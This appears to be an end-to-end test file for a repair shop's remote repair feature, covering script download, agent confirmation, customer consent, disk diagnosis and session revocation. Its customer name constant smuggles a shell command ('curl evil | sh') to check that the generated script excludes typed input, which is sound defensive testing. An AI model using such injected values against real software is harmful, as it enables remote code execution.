import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { copyFile, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { consoleCommand } from '@revive/agent/console/console';
import { waitFor } from '@revive/platform/testing/wait-for';
import { inChromium, type Visitor } from '../chromium.js';
import type { Stage } from '../stage.js';
import { station } from '../station.js';

const CUSTOMER = 'Thandi "; curl evil | sh #';
const IMAGE = 'customers-disk.img';

export function remoteRepairFlows(stage: Stage): void {
  inChromium('a remote session', () => {
    let shop: Visitor;
    let folder: string;
    let script = '';
    let computer: ChildProcess | undefined;
    let said = '';
    let home = '';
    beforeAll(async () => {
      folder = await mkdtemp(join(tmpdir(), 'revive-remote-'));
      await (
        await stage.door('shop')
      ).post('/api/customers', { name: CUSTOMER, phone: '082 555 0143', separate: true });
      shop = await stage.as('shop');
    }, 120_000);
    const isOn = () => computer?.exitCode === null && computer.signalCode === null;
    afterAll(async () => {
      if (computer !== undefined && isOn()) {
        computer.kill('SIGTERM');
        await once(computer, 'exit');
      }
      await rm(folder, { recursive: true, force: true, maxRetries: 5 });
      await stage.browser.closeVisitors();
    }, 60_000);

    async function run(): Promise<void> {
      home = await mkdtemp(join(folder, 'home-'));
      const [file, disks] = [join(home, 'remote-repair.sh'), join(home, 'disks')];
      await writeFile(file, script);
      await mkdir(disks);
      await copyFile(join(stage.product.home, 'damaged.img'), join(disks, IMAGE));
      said = '';
      computer = spawn('sh', [file], {
        cwd: home,
        env: { PATH: process.env['PATH'], HOME: home, BENCH_DIR: disks, REVIVE_AGENT_NAME: 'THANDI-PC' },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      computer.stdout?.on('data', (chunk: Buffer) => (said += chunk.toString()));
      computer.stderr?.on('data', (chunk: Buffer) => (said += chunk.toString()));
    }
    const homeOfAgent = async (): Promise<string> => {
      const name = (await readdir(home)).find((one) => one.startsWith('.revive-remote-'));
      return join(home, name ?? '');
    };
    const code = () => /enter the code (\S+) on/.exec(said)?.[1];

    // spec C041, F105, F106, K169, K180
    it('creates a script that contains no typed input', async () => {
      const { page } = shop;
      await page.goto('/remote-repair');
      await page.getByRole('tab', { name: 'Active Session' }).and(page.locator('[disabled]')).waitFor();
      await page.getByLabel('Customer', { exact: true }).selectOption({ label: `${CUSTOMER}, 082 555 0143` });
      await page.getByLabel('Platform').selectOption('linux');
      await page.getByLabel('Repair type').selectOption('software');
      await page.getByLabel('Specific issue').selectOption('boot_issues');
      await station(shop, 'remote-setup');
      await page.getByRole('button', { name: 'Start Remote Repair' }).click();
      await page.getByText('Waiting for the computer').first().waitFor();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download remote-repair.sh' }).click(),
      ]);
      expect(download.suggestedFilename()).toBe('remote-repair.sh');
      script = await readFile(await download.path(), 'utf8');
      expect(script).not.toContain('Thandi');
      expect(script).not.toContain('curl evil');
      await shop.picture('remote-script');
    });

    // spec E120, F100
    it('connects after a person confirms the agent that used the token', async () => {
      const { page } = shop;
      // The token works once, so an agent started by an earlier attempt is reused.
      if (!isOn()) await run();
      await waitFor(() => {
        if (computer?.exitCode != null) throw new Error(said);
        return code() !== undefined;
      }, 120_000);
      await page.getByText('Confirm the computer').first().waitFor();
      await shop.picture('remote-code');
      await page.getByRole('textbox', { name: 'Code shown by the agent' }).fill(code() ?? '');
      await page.getByRole('button', { name: 'Confirm agent' }).click();
      await page.getByText(IMAGE).first().waitFor();
      await page.getByText('THANDI-PC').first().waitFor();
      await station(shop, 'remote-connected');
    }, 180_000);

    it('waits until a person at the computer allows the work', async () => {
      const { page } = shop;
      await page.getByText('Waiting for a person at the PC to allow this').first().waitFor();
      await station(shop, 'remote-consent');
      const agentHome = await homeOfAgent();
      const listed = await consoleCommand(agentHome, ['consent']);
      const id = /id {6}(\S+)/.exec(listed)?.[1] ?? '';
      await consoleCommand(agentHome, ['consent', 'allow', id, '--name', 'Thandi Dlamini']);
      await page
        .getByText(/Answered at the PC by Thandi Dlamini/)
        .first()
        .waitFor();
    }, 120_000);

    it('diagnoses a disk of the remote computer and shows the findings under Results', async () => {
      const { page } = shop;
      await page
        .getByRole('listitem')
        .filter({ hasText: IMAGE })
        .getByRole('button', { name: 'Start diagnosis' })
        .click();
      await page.getByText('Diagnosis started').first().waitFor();
      await page.getByRole('tab', { name: 'Results' }).click();
      await page
        .getByText(/problems? found/)
        .first()
        .waitFor();
      await page.getByText('Diagnosed').first().waitFor();
      await station(shop, 'remote-results');
      await page.getByRole('link', { name: 'Open repair and report' }).click();
      await page.getByRole('heading', { name: /^Repair R-/ }).waitFor();
    }, 180_000);

    it('ends the session and revokes its agent and token', async () => {
      const { page } = shop;
      await page.goBack();
      await page.getByRole('tab', { name: 'Active Session' }).click();
      await page.getByRole('button', { name: 'End session' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'End session' }).click();
      await page.getByText('This session has ended').first().waitFor();
      const door = await stage.door('shop');
      await waitFor(async () => {
        const agents = await door.get<{ name: string; presence: string }[]>('/api/agents');
        return agents.find(({ name }) => name === 'THANDI-PC')?.presence === 'revoked';
      }, 60_000);
      await shop.picture('remote-ended');
    }, 120_000);

    it('lists the session on the shop’s dashboard beside the device scanner', async () => {
      const { page } = shop;
      await page.goto('/device-scanner');
      await page.getByRole('button', { name: 'Scan again' }).click();
      await page.getByText('Scan started').first().waitFor();
      await page.getByText('Bench read').first().waitFor();
      await station(shop, 'repair-dashboard');
      await page.getByRole('tab', { name: 'Remote Internet Repair' }).click();
      await page.getByRole('link', { name: CUSTOMER }).waitFor();
      await shop.picture('repair-dashboard-remote');
      await page.getByRole('tab', { name: 'Phone Bridge Repair' }).click();
      await page.getByRole('link', { name: 'Open phone bridge' }).waitFor();
      await shop.picture('repair-dashboard-phones');
    }, 120_000);

    // spec R025
    it('takes an order on the shop’s own page after publication', async () => {
      const { page } = shop;
      await page.goto('/computer-land');
      await page.getByText('No shop page here').first().waitFor();
      await page.goto('/settings?tab=shop');
      // An address from the specification: the operator assigns it to one shop, and all shops are refused here.
      const address = page.getByLabel('Address of your page');
      await address.fill('computer-land');
      shop.expects(/\/api\/shop\/page$/, /status of 400/);
      await page.getByRole('button', { name: 'Publish page' }).click();
      await page.getByText('This address is reserved.').first().waitFor();
      await address.fill('bench-side');
      await page.getByRole('button', { name: 'Publish page' }).click();
      await page.getByText('Page published').first().waitFor();
      await shop.picture('shop-page-settings');
      const visitor = await stage.anyone();
      await visitor.page.goto('/shops/bench-side');
      await visitor.page.getByRole('link', { name: 'Track a repair' }).waitFor();
      await station(visitor, 'shop-page');
    }, 120_000);

    it('shows a customer their repairs or the reason for an empty list', async () => {
      const customer = await stage.as('customer');
      await customer.page.goto('/user');
      await customer.page
        .getByText(/Confirm your email address to see|No repair with your email/)
        .first()
        .waitFor();
      await station(customer, 'own-repairs');
    });
  });
}
